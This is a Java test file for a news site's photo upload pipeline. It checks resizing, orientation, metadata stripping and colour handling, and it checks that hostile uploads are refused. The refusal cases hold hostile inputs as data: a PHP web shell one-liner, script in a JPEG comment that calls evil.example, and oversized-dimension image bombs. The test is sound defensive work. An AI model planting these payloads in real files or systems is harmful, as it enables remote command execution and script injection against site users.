@@ -1,0 +1,316 @@
+package news.liveblog.photo;
+
+import java.awt.Color;
+import java.awt.image.BufferedImage;
+import java.nio.charset.StandardCharsets;
+import java.util.Arrays;
+import java.util.List;
+import java.util.stream.Stream;
+
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import news.liveblog.ApplicationTest;
+import news.liveblog.BackOffice;
+import news.liveblog.dev.DemoAccounts;
+
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.http.HttpStatus;
+import org.springframework.jdbc.core.simple.JdbcClient;
+import org.springframework.test.web.servlet.assertj.MockMvcTester;
+import org.springframework.test.web.servlet.assertj.MvcTestResult;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.params.provider.Arguments.arguments;
+
+/**
+ * A reporter's photo goes in as the phone made it and comes out upright, sized for each screen and without a
+ * byte of its metadata; hostile and broken files are refused with the sentence the editor reads, a 4xx and
+ * nothing stored; odd but honest photos (CMYK, 16-bit, grey, transparent, WebP, a still GIF) come out as
+ * ordinary 8-bit sRGB renditions.
+ */
+@ApplicationTest
+class PhotoUploadTests {
+
+	/** What a served rendition must never hold, anywhere in its bytes. */
+	private static final List<String> METADATA = List.of("Exif", "GPS", "xmpmeta", "Photoshop 3.0", "ICC_PROFILE",
+			"PhoneMaker", "Field Reporter", "Kyiv", "reporter's position");
+
+	/** JPEG segments that carry metadata: APP1 (EXIF, XMP), APP2 (ICC), APP13 (IPTC), COM. */
+	private static final List<Integer> METADATA_SEGMENTS = List.of(0xE1, 0xE2, 0xED, 0xFE);
+
+	@Autowired
+	private MockMvcTester mvc;
+
+	@Autowired
+	private BackOffice backOffice;
+
+	@Autowired
+	private JdbcClient jdbc;
+
+	private PhotoUploads uploads;
+
+	@BeforeEach
+	void uploads() {
+		this.uploads = new PhotoUploads(this.mvc, this.backOffice, this.jdbc);
+	}
+
+	@Test
+	void aPhonePhotoComesOutUprightAtEveryWidthWithoutAnyMetadata() {
+		StoredPhoto photo = this.uploads.uploaded(TestImages.phonePhoto(), "image/jpeg");
+
+		// Stored 1600 x 1200 sideways with orientation 6: upright it is 1200 x 1600.
+		assertThat(photo).extracting(StoredPhoto::width, StoredPhoto::height, StoredPhoto::type)
+			.containsExactly(1200, 1600, "image/jpeg");
+		assertThat(photo.srcset()).isEqualTo("/media/%1$s/480 480w, /media/%1$s/960 960w, /media/%1$s/1200 1200w"
+			.formatted(photo.key()));
+		for (int width : photo.renditionWidths()) {
+			byte[] served = this.uploads.rendition(photo.key(), width);
+			BufferedImage image = TestImages.decode(served);
+			assertThat(image.getWidth()).as("width of " + width).isEqualTo(width);
+			assertThat(image.getHeight()).as("height at " + width).isEqualTo(photo.heightAt(width));
+			// Upright: red on top, blue below, the green corner top left (neither turned the other way nor mirrored).
+			rgb(image, width / 2, image.getHeight() / 4).as("top at " + width).isCloseTo(220, 20, 20);
+			rgb(image, width / 2, image.getHeight() * 3 / 4).as("bottom at " + width).isCloseTo(20, 20, 220);
+			rgb(image, width / 20, image.getHeight() / 40).as("top left at " + width).isCloseTo(20, 200, 20);
+			rgb(image, width - width / 20, image.getHeight() / 40).as("top right at " + width)
+				.isCloseTo(220, 20, 20);
+			assertThat(TestImages.jpegMarkers(served)).as("segments at " + width)
+				.doesNotContainAnyElementsOf(METADATA_SEGMENTS);
+			for (String text : METADATA) {
+				assertThat(TestImages.contains(served, text)).as(text + " at " + width).isFalse();
+			}
+		}
+	}
+
+	@Test
+	void theSameFileUploadedAgainIsTheSamePhotoProcessedOnce() {
+		byte[] file = TestImages.jpeg(800, 600, Color.CYAN);
+		StoredPhoto first = this.uploads.uploaded(file, "image/jpeg");
+		String stored = this.uploads.storedCounts();
+
+		StoredPhoto again = this.uploads.uploaded(file, "image/jpeg");
+
+		assertThat(again).isEqualTo(first);
+		assertThat(first.key()).isEqualTo(Photos.sha256(file)).hasSize(64);
+		assertThat(this.uploads.storedCounts()).isEqualTo(stored);
+	}
+
+	@Test
+	void aContributorUploadsToo() {
+		MvcTestResult result = this.uploads.upload(TestImages.jpeg(500, 400, Color.PINK), "image/jpeg",
+				this.backOffice.as(DemoAccounts.REPORTER), "en");
+
+		assertThat(result).hasStatus(HttpStatus.CREATED);
+	}
+
+	@Test
+	void aSmallPhotoKeepsItsOwnWidthAndALargeOneStopsAt2048() {
+		StoredPhoto small = this.uploads.uploaded(TestImages.jpeg(300, 200, Color.GREEN), "image/jpeg");
+		StoredPhoto large = this.uploads.uploaded(TestImages.jpeg(5000, 2500, Color.MAGENTA), "image/jpeg");
+
+		assertThat(small.renditionWidths()).containsExactly(300);
+		assertThat(large.renditionWidths()).containsExactly(480, 960, 1440, 2048);
+		assertThat(large.height()).isEqualTo(1024);
+		assertThat(TestImages.decode(this.uploads.rendition(large.key(), 2048)).getHeight()).isEqualTo(1024);
+	}
+
+	static Stream<Arguments> refusedFiles() {
+		byte[] jpeg = TestImages.jpeg(640, 480, Color.BLUE);
+		return Stream.of(
+				arguments("an HTML page named .jpg", "<!doctype html><html><body><script>alert(1)</script></body></html>"
+					.getBytes(StandardCharsets.UTF_8), 415, "This file is not an image, whatever its name says"),
+				arguments("a PDF", "%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF".getBytes(StandardCharsets.US_ASCII),
+						415, "This file is not an image"),
+				arguments("a text", "Just some notes from the summit.".getBytes(StandardCharsets.UTF_8), 415,
+						"This file is not an image"),
+				arguments("a program renamed .jpg", TestImages.concat("MZ\u0090\u0000\u0003\u0000\u0000\u0000"
+					.getBytes(StandardCharsets.ISO_8859_1), new byte[2048]), 415, "This file is not an image"),
+				arguments("an empty file", new byte[0], 415, "This file is not an image"),
+				arguments("an SVG", """
+						<?xml version="1.0"?>
+						<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><circle r="40"/></svg>
+						""".getBytes(StandardCharsets.UTF_8), 415, "SVG drawings are not accepted"),
+				arguments("an animated GIF", TestImages.animatedGif(), 422, "Only still images are accepted"),
+				arguments("a JPEG cut short", Arrays.copyOf(jpeg, jpeg.length * 2 / 3), 422,
+						"The photo arrived incomplete or damaged: please try again."),
+				arguments("a PNG cut short", cut(TestImages.transparentPng(400, 300)), 422, "arrived incomplete"),
+				arguments("a JPEG of garbage", TestImages.concat(Arrays.copyOf(jpeg, 200), noise(20_000)), 422,
+						"arrived incomplete"),
+				arguments("a JPEG with a script in its comment",
+						TestImages.jpegWithComment("<SCRIPT>fetch('//evil.example')</SCRIPT>"), 422,
+						"holds web page code"),
+				arguments("a JPEG with a page after its end",
+						TestImages.concat(jpeg, "<html><body>hello</body></html>".getBytes(StandardCharsets.UTF_8)), 422,
+						"holds web page code"),
+				arguments("a JPEG with PHP in its comment", TestImages.jpegWithComment("<?php system($_GET['c']); ?>"),
+						422, "holds web page code"),
+				arguments("a PNG declaring 50,000 x 50,000 pixels", TestImages.pngDeclaring(50_000, 50_000), 422,
+						"declares more pixels than any photo has"),
+				arguments("a PNG declaring 40,000 x 100 pixels", TestImages.pngDeclaring(40_000, 100), 422,
+						"declares more pixels"),
+				arguments("a JPEG declaring 65,000 x 65,000 pixels", TestImages.jpegDeclaring(65_000, 65_000), 422,
+						"declares more pixels"));
+	}
+
+	@ParameterizedTest(name = "{0}")
+	@MethodSource("refusedFiles")
+	void aHostileOrBrokenFileIsRefusedWithItsReasonAndNothingIsStored(String what, byte[] file, int status,
+			String message) {
+		String before = this.uploads.storedCounts();
+
+		MvcTestResult result = this.uploads.upload(file, "image/jpeg");
+
+		assertThat(result.getResponse().getStatus()).as(what).isEqualTo(status);
+		assertThat((String) PhotoUploads.read(result, "message")).as(what).contains(message);
+		assertThat(this.uploads.storedCounts()).as(what + ": nothing stored").isEqualTo(before);
+	}
+
+	@Test
+	void theEditorReadsWhyInTheirLanguage() {
+		MvcTestResult result = this.uploads.upload(TestImages.animatedGif(), "image/gif", this.backOffice.asEditor(),
+				"fr");
+
+		assertThat(result).hasStatus(HttpStatus.UNPROCESSABLE_CONTENT);
+		assertThat((String) PhotoUploads.read(result, "message")).startsWith("Seules les images fixes sont acceptées");
+	}
+
+	@Test
+	void aFileOverTheLimitIsRefusedFromItsLengthWith413() {
+		String before = this.uploads.storedCounts();
+
+		MvcTestResult result = this.uploads.upload(new byte[25 * 1024 * 1024 + 1], "image/jpeg");
+
+		assertThat(result).hasStatus(HttpStatus.CONTENT_TOO_LARGE);
+		assertThat((String) PhotoUploads.read(result, "message")).isEqualTo("This file is over 25 MB: send a smaller photo.");
+		assertThat(this.uploads.storedCounts()).isEqualTo(before);
+	}
+
+	@Test
+	void xmpThatEveryPhoneWritesIsNoMarkup() {
+		byte[] file = TestImages.jpegWithComment(
+				"<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF><rdf:Description/></rdf:RDF></x:xmpmeta>");
+
+		StoredPhoto photo = this.uploads.uploaded(file, "image/jpeg");
+
+		assertThat(TestImages.contains(this.uploads.rendition(photo.key(), 400), "xmpmeta")).isFalse();
+	}
+
+	@Test
+	void aCmykJpegComesOutAsSrgbRed() {
+		StoredPhoto photo = this.uploads.uploaded(TestImages.cmykJpeg(), "image/jpeg");
+
+		BufferedImage image = TestImages.decode(this.uploads.rendition(photo.key(), 600));
+		assertThat(image.getColorModel().getColorSpace().isCS_sRGB()).isTrue();
+		assertThat(image.getColorModel().getComponentSize(0)).isEqualTo(8);
+		Rgb red = rgb(image, 300, 200);
+		// Printing red on screen: strong red, little green and blue (the exact shade is the CMYK profile's).
+		assertThat(red.red()).isGreaterThan(190);
+		assertThat(red.green()).isLessThan(90);
+		assertThat(red.blue()).isLessThan(90);
+	}
+
+	@Test
+	void aSixteenBitPngComesOutAsEightBitJpegOfTheSameColour() {
+		StoredPhoto photo = this.uploads.uploaded(TestImages.sixteenBitPng(), "image/png");
+
+		assertThat(photo.type()).isEqualTo("image/jpeg");
+		BufferedImage image = TestImages.decode(this.uploads.rendition(photo.key(), 600));
+		assertThat(image.getColorModel().getComponentSize(0)).isEqualTo(8);
+		rgb(image, 300, 200).isCloseTo(0x20, 0x60, 0xE0);
+	}
+
+	@Test
+	void aSixteenBitGreyPngKeepsItsGrey() {
+		StoredPhoto photo = this.uploads.uploaded(TestImages.sixteenBitGreyPng(), "image/png");
+
+		rgb(TestImages.decode(this.uploads.rendition(photo.key(), 500)), 250, 150).isCloseTo(128, 128, 128);
+	}
+
+	@Test
+	void aGreyJpegStaysTheSameGrey() {
+		StoredPhoto photo = this.uploads.uploaded(TestImages.greyJpeg(), "image/jpeg");
+
+		rgb(TestImages.decode(this.uploads.rendition(photo.key(), 700)), 350, 250).isCloseTo(90, 90, 90);
+	}
+
+	@Test
+	void aTransparentPngStaysAPngWithItsTransparencyAndNoMetadataChunk() {
+		StoredPhoto photo = this.uploads.uploaded(TestImages.transparentPng(1000, 500), "image/png");
+
+		assertThat(photo.type()).isEqualTo("image/png");
+		assertThat(photo.renditionWidths()).containsExactly(480, 960, 1000);
+		for (int width : photo.renditionWidths()) {
+			byte[] served = this.uploads.rendition(photo.key(), width);
+			assertThat(TestImages.pngChunks(served)).as("chunks at " + width)
+				.doesNotContain("tEXt", "zTXt", "iTXt", "tIME", "iCCP", "eXIf");
+			BufferedImage image = TestImages.decode(served);
+			assertThat(image.getHeight()).isEqualTo(photo.heightAt(width));
+			assertThat(image.getRGB(width / 4, image.getHeight() / 2) >>> 24).as("left half").isZero();
+			rgb(image, width * 3 / 4, image.getHeight() / 2).as("right half").isCloseTo(20, 160, 40);
+		}
+	}
+
+	@Test
+	void anOpaquePngBecomesAJpeg() {
+		StoredPhoto photo = this.uploads.uploaded(
+				TestImages.write(TestImages.filled(640, 480, BufferedImage.TYPE_INT_ARGB, Color.RED), "png"),
+				"image/png");
+
+		assertThat(photo.type()).isEqualTo("image/jpeg");
+	}
+
+	@Test
+	void aWebpAndAStillGifAreTaken() {
+		StoredPhoto webp = this.uploads.uploaded(TestImages.webp(), "image/webp");
+		StoredPhoto gif = this.uploads.uploaded(TestImages.stillGif(), "image/gif");
+
+		assertThat(webp).extracting(StoredPhoto::width, StoredPhoto::height).containsExactly(640, 480);
+		rgb(TestImages.decode(this.uploads.rendition(webp.key(), 640)), 320, 240).isCloseTo(240, 140, 20);
+		assertThat(gif).extracting(StoredPhoto::width, StoredPhoto::height).containsExactly(300, 200);
+		rgb(TestImages.decode(this.uploads.rendition(gif.key(), 300)), 150, 100).isCloseTo(255, 255, 0);
+	}
+
+	private static byte[] cut(byte[] file) {
+		return Arrays.copyOf(file, file.length - 30);
+	}
+
+	private static byte[] noise(int length) {
+		byte[] noise = new byte[length];
+		new java.util.Random(16).nextBytes(noise);
+		return noise;
+	}
+
+	private static Rgb rgb(BufferedImage image, int x, int y) {
+		int pixel = image.getRGB(x, y);
+		return new Rgb((pixel >> 16) & 0xFF, (pixel >> 8) & 0xFF, pixel & 0xFF);
+	}
+
+	/** A pixel's colour, compared within what JPEG's compression changes. */
+	record Rgb(int red, int green, int blue) {
+
+		void isCloseTo(int expectedRed, int expectedGreen, int expectedBlue) {
+			as("").isCloseTo(expectedRed, expectedGreen, expectedBlue);
+		}
+
+		Described as(String where) {
+			return new Described(this, where);
+		}
+
+	}
+
+	record Described(Rgb rgb, String where) {
+
+		void isCloseTo(int expectedRed, int expectedGreen, int expectedBlue) {
+			assertThat(Math.abs(this.rgb.red() - expectedRed) <= 24 && Math.abs(this.rgb.green() - expectedGreen) <= 24
+					&& Math.abs(this.rgb.blue() - expectedBlue) <= 24)
+				.as("%s: %s is close to (%d, %d, %d)", this.where, this.rgb, expectedRed, expectedGreen, expectedBlue)
+				.isTrue();
+		}
+
+	}
+
+}
